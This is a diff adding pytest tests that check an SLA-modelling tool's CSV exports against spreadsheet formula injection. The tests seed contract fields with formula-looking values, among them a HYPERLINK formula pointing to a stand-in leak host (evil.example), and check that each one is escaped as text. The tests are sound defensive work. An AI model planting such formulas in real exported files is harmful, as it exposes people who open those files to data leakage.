@@ -4,15 +4,24 @@ outputs that would replace a read-only file or the command's own input."""
 
 from __future__ import annotations
 
+import csv
+import json
 import os
 import tempfile
+from decimal import Decimal
 from pathlib import Path
 from types import SimpleNamespace
 
+import openpyxl
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 import slamodeler.cli.main as cli
+from slamodeler.io.formula_text import FORMULA_START, csv_text, from_csv_text
 from slamodeler.services import error_log
+from tests.hostile_inputs import hostile
+from tests.office import convert, needs_office, office_profile
 
 FROZEN = "20240102-030405"
 
@@ -116,3 +125,136 @@ def test_the_gui_log_does_not_follow_a_symlink(tmp_path):
     log.error("logged")
     assert "logged" in real.read_text(encoding="utf-8")
     assert real.stat().st_mode & 0o777 == 0o600
+
+
+# ---------------------------------------------------------------------------------------------
+# CSV text that a spreadsheet would run as a formula
+# ---------------------------------------------------------------------------------------------
+
+REPO = Path(__file__).resolve().parents[1]
+SAMPLES = REPO / "sample_contracts"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
+
+
+@pytest.fixture(scope="module")
+def office(tmp_path_factory):
+    return office_profile(tmp_path_factory)
+
+
+def formula_terms(folder: Path) -> tuple[Path, Path]:
+    """The sample contract and scenario with a tier, an escalation, an impact label, an
+    excluded cause and a process (the dumped incidents' title) that look like formulas."""
+    contract = (SAMPLES / "three_tier_cloud.yaml").read_text(encoding="utf-8")
+    for old, new in (
+        ("name: Bronze", "name: '=1+1'"),
+        ("escalation: notify the account executive}", f"escalation: '{HYPERLINK}'}}"),
+        ("impact_weights: {full: 1.0,", "impact_weights: {'=full': 1.0, full: 1.0,"),
+        ("causes: [maintenance,", "causes: ['=maint', maintenance,"),
+    ):
+        assert old in contract, old
+        contract = contract.replace(old, new)
+    scenario = (SAMPLES / "scenarios" / "baseline.yaml").read_text(encoding="utf-8")
+    for old, new in (
+        ("impact: {full: 0.4, partial: 0.6}", "impact: {'=full': 0.5, full: 0.2, partial: 0.3}"),
+        ("cause: {internal: 0.9, third_party: 0.1}", "cause: {internal: 0.5, '=maint': 0.5}"),
+        ("name: platform incidents", f"name: '{HYPERLINK}'"),
+        ("rate_per_month: 1.8", "rate_per_month: 12"),
+    ):
+        assert old in scenario, old
+        scenario = scenario.replace(old, new)
+    (folder / "terms.yaml").write_text(contract, encoding="utf-8")
+    (folder / "scenario.yaml").write_text(scenario, encoding="utf-8")
+    return folder / "terms.yaml", folder / "scenario.yaml"
+
+
+@pytest.fixture
+def dumped(tmp_path: Path, capsys) -> SimpleNamespace:
+    """One dumped trial of the formula-looking terms, and its replay as CSV and JSON."""
+    contract, scenario = formula_terms(tmp_path)
+    trials = tmp_path / "trials"
+    hostile(
+        capsys,
+        "simulate",
+        contract,
+        "--scenario",
+        scenario,
+        "--trials",
+        30,
+        "--seed",
+        4,
+        "--dump-trials",
+        1,
+        "--dump-dir",
+        trials,
+        "--format",
+        "json",
+    )
+    trial = trials / "trial-000000.csv"
+    period = ("--from", "2027-01", "--to", "2027-12")
+    _, as_csv, _ = hostile(capsys, "replay", contract, trial, *period, "--format", "csv")
+    _, as_json, _ = hostile(capsys, "replay", contract, trial, *period, "--format", "json")
+    (tmp_path / "replay.csv").write_text(as_csv, encoding="utf-8")
+    return SimpleNamespace(
+        contract=contract,
+        scenario=scenario,
+        trial=trial,
+        replay_csv=tmp_path / "replay.csv",
+        replay=json.loads(as_json),
+    )
+
+
+def csv_rows(path: Path) -> list[list[str]]:
+    with path.open(newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+def test_a_dumped_trial_with_formula_looking_text_replays_to_the_same_credits(dumped):
+    from slamodeler.engine.simulation import period_credits, simulate
+    from slamodeler.io.contract_file import load_contract
+    from slamodeler.io.scenario_file import load_scenario
+
+    header, *rows = csv_rows(dumped.trial)
+    column = {name: header.index(name) for name in header}
+    assert {r[column["impact"]] for r in rows} >= {"'=full", "full"}
+    assert {r[column["cause"]] for r in rows} >= {"'=maint", "internal"}
+    assert {r[column["title"]] for r in rows} >= {"'" + HYPERLINK}
+    sim = simulate(load_contract(dumped.contract), load_scenario(dumped.scenario), 30, 4)
+    for tier in dumped.replay["tiers"]:
+        expected = period_credits(sim, tier["tier"], [0])[0].tolist()
+        assert [int(Decimal(p["credit_after_caps"]) * 100) for p in tier["periods"]] == expected
+    excluded = [p["excluded_by_reason"] for t in dumped.replay["tiers"] for p in t["periods"]]
+    assert any("cause: =maint" in reasons for reasons in excluded)  # read back without the '
+    titles = {
+        i["title"] for t in dumped.replay["tiers"] for p in t["periods"] for i in p["incidents"]
+    }
+    assert HYPERLINK in titles
+
+
+def test_replay_csv_guards_text_and_leaves_numbers(dumped):
+    header, *rows = csv_rows(dumped.replay_csv)
+    tiers = {r[0] for r in rows}
+    assert tiers == {"'=1+1", "Silver", "Gold"}
+    assert {r[header.index("escalation")] for r in rows} == {"", "'" + HYPERLINK}
+    for name in ("period_minutes", "credit_owed", "credit_after_caps"):
+        assert all(not r[header.index(name)].startswith("'") for r in rows)
+
+
+@needs_office
+def test_libreoffice_opens_every_csv_the_tool_writes_as_text(dumped, office, tmp_path):
+    expected = {
+        dumped.trial: {"'=full", "'=maint", "'" + HYPERLINK},
+        dumped.replay_csv: {"'=1+1", "'" + HYPERLINK},
+    }
+    for source, guarded in expected.items():
+        sheet = openpyxl.load_workbook(convert(office, source, "xlsx", tmp_path / "out")).active
+        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], source
+        assert guarded <= {c.value for c in cells if c.data_type == "s"}, source
+
+
+@given(st.text())
+def test_the_csv_guard_reads_back_exactly(text):
+    guarded = csv_text(text)
+    assert from_csv_text(guarded) == text
+    assert guarded[:1] not in FORMULA_START
+    assert guarded == text or guarded == "'" + text
